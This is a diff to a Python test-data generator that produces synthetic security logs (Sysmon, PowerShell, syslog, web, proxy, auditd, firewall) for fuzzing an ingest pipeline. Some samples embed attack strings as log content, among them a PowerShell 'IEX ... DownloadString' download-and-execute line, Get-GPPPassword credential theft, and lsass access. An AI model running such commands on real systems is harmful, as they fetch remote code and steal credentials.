@@ -12,6 +12,7 @@ from __future__ import annotations
 import copy
 import json
 import random
+import re
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
@@ -23,7 +24,10 @@ from config.timezone import LOCAL_TZ
 
 # Formats as deploy/ingest/routes.yaml maps them, with the transport that carries each.
 MQTT_FORMATS = ("ioc_telemetry", "frigate")
-KAFKA_FORMATS = ("syslog", "suricata", "cef", "winlog", "edr")
+KAFKA_FORMATS = (
+    "syslog", "suricata", "cef", "winlog", "edr", "web_access", "proxy_access", "auditd",
+    "firewall",
+)  # fmt: skip
 JSON_FORMATS = frozenset({"ioc_telemetry", "frigate", "suricata", "winlog", "edr"})
 TRANSPORT = {f: "mqtt" for f in MQTT_FORMATS} | {f: "kafka" for f in KAFKA_FORMATS}
 # Over routes.yaml limits.max_message_bytes (262,144), under mosquitto's 1 MiB limit.
@@ -46,6 +50,12 @@ class Payload:
 
 # ---- valid samples ------------------------------------------------------------------
 
+_PROVIDERS = {
+    "Security": "Microsoft-Windows-Security-Auditing",
+    "Microsoft-Windows-Sysmon/Operational": "Microsoft-Windows-Sysmon",
+    "Microsoft-Windows-PowerShell/Operational": "Microsoft-Windows-PowerShell",
+}
+
 
 class Samples:
     """Valid documents of each format, unique per call (ids, times, addresses), so that
@@ -63,6 +73,11 @@ class Samples:
             return f"2001:db8::{r.randrange(1, 0xFFFF):x}"
         net = r.choice((203, 198, 10))
         return f"{net}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"
+
+    def bsd(self, t: datetime) -> str:
+        """An RFC 3164 header's time: local, no year, the day padded with a space."""
+        local = t.astimezone(LOCAL_TZ)
+        return f"{local:%b} {local.day:2d} {local:%H:%M:%S}"
 
     def word(self, n: int = 6) -> str:
         return "".join(self.rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))
@@ -125,25 +140,102 @@ class Samples:
         return eve | extra
 
     def winlog(self, seq: int) -> Any:
-        r, t = self.rng, self.when()
-        if r.random() < 0.5:
-            stamp = t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"
-            return {
-                "@timestamp": stamp, "message": "An account failed to log on.",
-                "winlog": {"event_id": r.choice(("4625", "4624")), "channel": "Security",
-                           "computer_name": "DC01", "keywords": ["Audit Failure"],
-                           "record_id": seq,
-                           "event_data": {"TargetUserName": self.word(), "TargetDomainName": "D",
-                                          "Status": "0xc000006d", "SubStatus": "0xc000006a",
-                                          "LogonType": "3", "IpAddress": self.ip(),
-                                          "IpPort": str(r.randrange(1024, 65535)),
-                                          "WorkstationName": "KALI"}},
-            }  # fmt: skip
+        """Security, Sysmon or PowerShell (4103/4104), as Winlogbeat or NXLog ships it."""
+        kind = self.rng.choice((self._win_security, self._sysmon, self._powershell))
+        channel, event_id, data = kind(seq)
+        ship = self._winlogbeat if self.rng.random() < 0.5 else self._nxlog
+        return ship(channel, event_id, data, seq)
+
+    def _winlogbeat(self, channel: str, event_id: int, data: dict[str, Any], seq: int) -> Any:
+        t, provider = self.when(), _PROVIDERS[channel]
+        failed = channel == "Security" and event_id == 4625
         return {
-            "EventTime": t.astimezone(LOCAL_TZ).strftime("%Y-%m-%d %H:%M:%S"), "Hostname": "DC02",
-            "EventType": "AUDIT_SUCCESS", "EventID": r.choice((4740, 4688)),
-            "Channel": "Security", "TargetUserName": self.word(), "TargetDomainName": "WS",
-            "NewProcessName": "C:\\a\\b.exe", "CommandLine": f"b.exe -{self.word()}",
+            "@timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z",
+            "message": "rendered text", "host": {"name": "WS-KT-07"},
+            "agent": {"type": "winlogbeat", "version": "8.15.3"},
+            "event": {"code": str(event_id), "kind": "event", "provider": provider},
+            "winlog": {"event_id": self.rng.choice((event_id, str(event_id))),
+                       "channel": channel, "provider_name": provider,
+                       "computer_name": "WS-KT-07.sotttt.gov.vn",
+                       "keywords": ["Audit Failure" if failed else "Audit Success"],
+                       "record_id": seq, "api": "wineventlog", "event_data": data},
+        }  # fmt: skip
+
+    def _nxlog(self, channel: str, event_id: int, data: dict[str, Any], seq: int) -> Any:
+        t = self.when().astimezone(LOCAL_TZ)
+        level = "INFO"
+        if channel == "Security":
+            level = "AUDIT_FAILURE" if event_id == 4625 else "AUDIT_SUCCESS"
+        return {
+            "EventTime": f"{t:%Y-%m-%d %H:%M:%S}", "Hostname": "DC02", "EventType": level,
+            "EventID": event_id, "SourceName": _PROVIDERS[channel], "Channel": channel,
+            "RecordNumber": seq, "Keywords": "-9223372036854775808", "SeverityValue": 2,
+            "Domain": "NT AUTHORITY", "AccountName": "SYSTEM", "UserID": "S-1-5-18",
+            "SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog", **data,
+        }  # fmt: skip
+
+    def _win_security(self, seq: int) -> tuple[str, int, dict[str, Any]]:
+        r = self.rng
+        event_id = r.choice((4625, 4624, 4740, 4688))
+        data: dict[str, Any] = {
+            "TargetUserName": self.word(), "TargetDomainName": "D", "LogonType": "3",
+            "IpAddress": self.ip(), "IpPort": str(r.randrange(1024, 65535)),
+            "WorkstationName": "KALI",
+        }  # fmt: skip
+        if event_id == 4625:
+            data |= {"Status": "0xc000006d", "SubStatus": "0xc000006a"}
+        if event_id == 4688:
+            data |= {"NewProcessName": "C:\\a\\b.exe", "CommandLine": f"b.exe -{self.word()}"}
+        return "Security", event_id, data
+
+    def _sysmon(self, seq: int) -> tuple[str, int, dict[str, Any]]:
+        r, word = self.rng, self.word()
+        common = {
+            "RuleName": "-", "ProcessGuid": "{5f1c2a9e-1f30-674e-2a04-000000001e00}",
+            "ProcessId": str(r.randrange(4, 65535)), "User": f"SOTTTT\\{word}",
+            "Image": f"C:\\Users\\{word}\\AppData\\Local\\Temp\\{word}.exe",
+        }  # fmt: skip
+        event_id, data = r.choice([
+            (1, {"CommandLine": f"{word}.exe /c whoami /priv {seq}", "IntegrityLevel": "High",
+                 "CurrentDirectory": "C:\\Users\\", "OriginalFileName": f"{word}.exe",
+                 "Hashes": f"SHA1={self.word(40)},MD5={self.word(32)},IMPHASH={self.word(32)}",
+                 "ParentProcessId": "6120", "ParentImage": "C:\\Windows\\System32\\cmd.exe",
+                 "ParentCommandLine": '"C:\\Windows\\system32\\cmd.exe" '}),
+            (3, {"Protocol": "tcp", "Initiated": "true", "SourceIp": self.ip(),
+                 "SourcePort": str(r.randrange(1024, 65535)), "DestinationIp": self.ip(),
+                 "DestinationHostname": "-", "DestinationPort": str(r.choice((443, 4444)))}),
+            (10, {"SourceImage": f"C:\\Temp\\{word}.exe", "SourceProcessId": "8812",
+                  "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1fffff",
+                  "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00007FF6A1B2)"}),
+            (13, {"EventType": "SetValue", "Details": "DWORD (0x00000001)",
+                  "TargetObject": f"HKLM\\SOFTWARE\\Policies\\{word}\\DisableAV"}),
+            (22, {"QueryName": f"{word}.example.org", "QueryStatus": "0",
+                  "QueryResults": f"type:  5 cdn.example.net;::ffff:{self.ip()};"}),
+        ])  # fmt: skip
+        return "Microsoft-Windows-Sysmon/Operational", event_id, common | data
+
+    def _powershell(self, seq: int) -> tuple[str, int, dict[str, Any]]:
+        r, word = self.rng, self.word()
+        channel = "Microsoft-Windows-PowerShell/Operational"
+        if r.random() < 0.5:
+            total = r.randrange(1, 4)
+            return channel, 4104, {
+                "MessageNumber": str(r.randrange(1, total + 1)), "MessageTotal": str(total),
+                "ScriptBlockText": f"IEX (New-Object Net.WebClient).DownloadString('http://"
+                                   f"{self.ip()}/{word}.ps1') # {seq}",
+                "ScriptBlockId": f"9e2f3c4a-6b1d-4e8f-a0c2-{seq:012d}",
+                "Path": f"C:\\Users\\{word}\\tools.ps1",
+            }  # fmt: skip
+        context = (
+            "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n"
+            f"        Host Application = powershell.exe -ep bypass -c {word}\r\n"
+            "        Engine Version = 5.1.19041.4648\r\n        Command Name = Get-GPPPassword\r\n"
+            "        Command Type = Function\r\n        Script Name = \r\n"
+            f"        User = SOTTTT\\{word}\r\n        Shell ID = Microsoft.PowerShell\r\n"
+        )
+        return channel, 4103, {
+            "ContextInfo": context,
+            "Payload": f'CommandInvocation(Get-GPPPassword): "Get-GPPPassword" {seq}\r\n',
         }  # fmt: skip
 
     def edr(self, seq: int) -> Any:
@@ -179,6 +271,12 @@ class Samples:
             f" USER=root ; COMMAND=/bin/ls {seq}",
             f"<4>{bsd} fw kernel: [{seq}.4] [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST=10.0.0.5"
             f" LEN=60 PROTO=TCP SPT={port} DPT=22 SYN",
+            f"<78>{bsd} db01 CRON[{seq}]: ({user}) CMD (   cd / && run-parts --report /etc/"
+            f"cron.{user})",
+            f"<78>{bsd} db01 crontab[{seq}]: ({user}) REPLACE ({user})",
+            f"<30>{bsd} mail01 clamd[{seq}]: /srv/up/{user} a.zip: Win.Trojan.Agent-{port} FOUND",
+            f"<30>{bsd} mail01 clamd[{seq}]: /tmp/{user}.com: Eicar-Signature(44d88612fea8a8f36de8"
+            f"2e1278abb02f:68) FOUND",
         ])  # fmt: skip
 
     def cef(self, seq: int) -> str:
@@ -191,6 +289,122 @@ class Samples:
             f"CEF:0|Palo Alto Networks|PAN-OS|10.2.4|virus|THREAT|High|"
             f"rt={int(t.timestamp() * 1000)} src={ip} cs1Label=Rule cs1=r{seq}"
             f" msg=a\\=b outcome=/Failure",
+        ])  # fmt: skip
+
+    def web_access(self, seq: int) -> str:
+        r, t = self.rng, self.when()
+        ip, word = self.ip(), self.word()
+        clf = f"{t.astimezone(LOCAL_TZ):%d/%b/%Y:%H:%M:%S %z}"
+        request = f"{r.choice(('GET', 'POST', 'HEAD'))} /{word}.php?id={seq}' HTTP/1.1"
+        line = (
+            f'{ip} - {r.choice(("-", word))} [{clf}] "{request}" {r.choice((200, 302, 404, 500))}'
+            f' {r.randrange(10**6)} "-" "Mozilla/5.0 (X11; Linux x86_64) sqlmap/{seq}"'
+        )
+        w3c = f"{t.astimezone(UTC):%Y-%m-%d %H:%M:%S}"
+        return r.choice([
+            line,
+            f"portal.example.vn:443 {line} \"10.0.0.{seq % 250 + 1}\"",
+            f'{ip} - - [{clf}] "GET /{word} HTTP/1.0" 200 -',
+            f'{ip} - - [{clf}] "\\x16\\x03\\x01\\x00\\xa5" 400 157 "-" "-"',
+            f"<190>{self.bsd(t)} web01 nginx: {line}",
+            json.dumps({"message": line, "log": {"file": {"path": "/var/log/apache2/access.log"}},
+                        "host": {"name": f"web{seq % 9}"}}),
+            "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip"
+            " cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent)"
+            " cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
+            f"{w3c} 10.0.0.5 GET /{word}.aspx q={seq} 443 - {ip} Mozilla/5.0+(Windows+NT+10.0)"
+            " - 200 0 0 15",
+            f"{w3c} 10.0.0.5 POST /owa/auth.owa - 443 {word} {ip} curl/8.0 - 401 1 2148074254 3",
+        ])  # fmt: skip
+
+    def proxy_access(self, seq: int) -> str:
+        r, t = self.rng, self.when()
+        client, word = self.ip(), self.word()
+        epoch = f"{t.timestamp():.3f}"
+        native = (
+            f"{epoch} {r.randrange(10**5):6d} {client} TCP_MISS/200 {r.randrange(10**6)} GET"
+            f" http://{word}.example.com/a?b={seq} {r.choice(('-', word))}"
+            f" HIER_DIRECT/{self.ip()} text/html"
+        )
+        clf = f"{t.astimezone(LOCAL_TZ):%d/%b/%Y:%H:%M:%S %z}"
+        return r.choice([
+            native,
+            f"{epoch}      0 {client} TCP_DENIED/403 3900 CONNECT {word}.example:443 -"
+            " HIER_NONE/- text/html",
+            f'{client} - {word} [{clf}] "GET http://x.example/{word}.exe HTTP/1.1" 200 100 "-"'
+            f' "Microsoft BITS/7.8" TCP_MISS:HIER_DIRECT',
+            f"<166>{self.bsd(t)} proxy01 squid[{seq}]: {native}",
+        ])  # fmt: skip
+
+    def auditd(self, seq: int) -> str:
+        r, t = self.rng, self.when()
+        word = self.word()
+        stamp = f"audit({t.timestamp():.3f}:{seq + 1000})"
+        path = f"/tmp/{word}".encode().hex().upper()
+        execve = "\n".join([
+            f"type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0"
+            f" a1=55d1 a2=55d2 a3=0 items=2 ppid=1200 pid={seq} auid=1000 uid=0 gid=0 euid=0"
+            f' tty=pts0 ses=3 comm="{word}" exe="/usr/bin/{word}" key=(null)\x1dARCH=x86_64'
+            ' SYSCALL=execve AUID="alice" UID="root"',
+            f'type=EXECVE msg={stamp}: argc=2 a0="{word}" a1={path}',
+            f'type=CWD msg={stamp}: cwd="/root"',
+            f'type=PATH msg={stamp}: item=0 name="/usr/bin/{word}" nametype=NORMAL',
+            f"type=PROCTITLE msg={stamp}: proctitle={f'{word} /tmp'.encode().hex()}",
+            f"type=EOE msg={stamp}: ",
+        ])  # fmt: skip
+        return r.choice([
+            execve,
+            f"node=db01 type=SERVICE_STOP msg={stamp}: pid=1 uid=0 auid=4294967295"
+            f" ses=4294967295 msg='unit={word} comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\""
+            " hostname=? addr=? terminal=? res=success'",
+            f"<14>{self.bsd(t)} web01 audisp-syslog: type=USER_LOGIN msg={stamp}: pid={seq}"
+            f" uid=0 auid=1000 ses=5 msg='op=login acct=\"{word}\""
+            f' exe="/usr/sbin/sshd" hostname=? addr={self.ip()} terminal=sshd res=failed\'',
+            f'audit: type=1309 {stamp}: argc=3 a0="tar" a1="-czf" a2[0]={path} a2[1]=2F62',
+        ])  # fmt: skip
+
+    def firewall(self, seq: int) -> str:
+        r, t = self.rng, self.when()
+        local = t.astimezone(LOCAL_TZ)
+        src, dst, word = self.ip(), self.ip(), self.word()
+        sport, dport = r.randrange(1024, 65535), r.choice((22, 23, 443, 3389))
+        bsd = self.bsd(t)
+        fgt = (
+            f'date={local:%Y-%m-%d} time={local:%H:%M:%S} devname="FGT-HQ" devid="FG100F{seq}"'
+            f' eventtime={int(t.timestamp() * 10**9)} tz="+0700"'
+        )
+        pan_time = f"{local:%Y/%m/%d %H:%M:%S}"
+        v4 = f"203.0.113.{r.randrange(1, 255)}"  # filterlog's IPv4 columns hold only IPv4
+        return r.choice([
+            f'<189>{fgt} logid="0000000013" type="traffic" subtype="forward" srcip={src}'
+            f" srcport={sport} dstip={dst} dstport={dport} proto=6"
+            f' action="{r.choice(("close", "deny", "accept"))}" policyid={seq % 90}'
+            f' policyname="LAN to WAN" sentbyte={r.randrange(10**6)} rcvdbyte=5300 duration=5',
+            f'<185>{fgt} logid="0101039426" type="event" subtype="vpn" level="alert" vd="root"'
+            f' logdesc="SSL VPN login fail" action="ssl-login-fail" tunneltype="ssl-web"'
+            f' tunnelid=0 remip={src} tunnelip=(null) user="{word}" group="N/A"'
+            f' reason="sslvpn_login_unknown_user" msg="SSL user failed to logged in"',
+            f"<166>{local:%b %d %Y %H:%M:%S} fw : %ASA-6-302013: Built outbound TCP connection"
+            f" {seq} for outside:{dst}/{dport} ({dst}/{dport}) to inside:{src}/{sport}"
+            f" ({src}/{sport})(CORP\\{word})",
+            f"<164>{bsd} fw %ASA-4-106023: Deny tcp src outside:{src}/{sport} dst"
+            f' inside:10.0.0.1/{dport} by access-group "outside_in" [0x0, 0x0]',
+            f"<163>{local:%b %d %Y %H:%M:%S} fw-hq : %ASA-6-716039: Group <DfltGrpPolicy> User"
+            f" <{word}> IP <{src}> Authentication: rejected, Session Type: WebVPN.",
+            f"<14>{bsd} PA 1,{pan_time},0123,TRAFFIC,end,2561,{pan_time},{src},{dst},0.0.0.0,"
+            f"0.0.0.0,allow-web,,,ssl,vsys1,trust,untrust,e1/2,e1/1,fwd,{pan_time},{seq},1,"
+            f"{sport},{dport},0,0,0x0,tcp,allow,5120,1200,3920,20",
+            f"1,{pan_time},0123,THREAT,url,2561,{pan_time},{src},{dst},,,r,,,web,vsys1,a,b,c,d,"
+            f'e,,{seq},1,{sport},80,0,0,0x0,tcp,block-url,"{word}.vn/a,b",(9999),any,high',
+            f"<134>{bsd} pf filterlog[{seq}]: 5,,,1000000103,igb0,match,block,in,4,0x0,,64,1,0,"
+            f"DF,6,tcp,60,{v4},10.0.0.1,{sport},{dport},0,S,1,,64240,,mss",
+            f"<134>1 {local.isoformat()} pf filterlog {seq} - - 80,,,17,igb1,match,pass,out,6,"
+            f"0x00,0x00000,64,udp,17,48,2001:db8::{seq % 0xFFFF:x},2001:db8:1::53,{sport},53,40",
+            f"CEF:0|Fortinet|Fortigate|v7.2|44547|event:system cfg|3|FTNTFGTlogid=0100044547"
+            f" cat=event:system act=Add FTNTFGTcfgpath=firewall.policy duser={word}"
+            f" rt={int(t.timestamp() * 1000)}",
+            f"CEF:0|Palo Alto Networks|PAN-OS|10.2|end|TRAFFIC|1|rt={int(t.timestamp() * 1000)}"
+            f" src={src} dst={dst} spt={sport} dpt={dport} cs1Label=Rule cs1=r{seq} act=allow",
         ])  # fmt: skip
 
 
@@ -210,6 +424,9 @@ ODD_VALUES: list[Any] = [
     "1970-01-01T00:00:00Z", "0001-01-01T00:00:00+00:00", "9999-12-31T23:59:59Z",
     "203.0.113.999", "fe80::1%eth0", "::ffff:1.2.3.4",
 ]  # fmt: skip
+
+
+_DIGITS = re.compile(rb"\d+")
 
 
 def _dumps(doc: Any) -> bytes:
@@ -270,6 +487,12 @@ def truncate(rng: random.Random, fmt: str, doc: Any, raw: bytes) -> Outcome:
 def huge_number(rng: random.Random, fmt: str, doc: Any, raw: bytes) -> Outcome:
     if fmt not in JSON_FORMATS:
         piece = rng.choice([b"99999999999999999999999", b"1e400", b"-0"])
+        numbers = list(_DIGITS.finditer(raw))
+        if numbers and rng.random() < 0.5:
+            # In place of a number of the line (a port, a pid, a serial), where a decoder
+            # reads one; spliced anywhere, it seldom lands there.
+            found = rng.choice(numbers)
+            return raw[: found.start()] + piece + raw[found.end() :], "either", None
         return splice(rng, raw, piece), "either", None
     text = rng.choice(["1e400", "-1e999", "123456789e999"])
     # Past a double's range: orjson refuses the document.
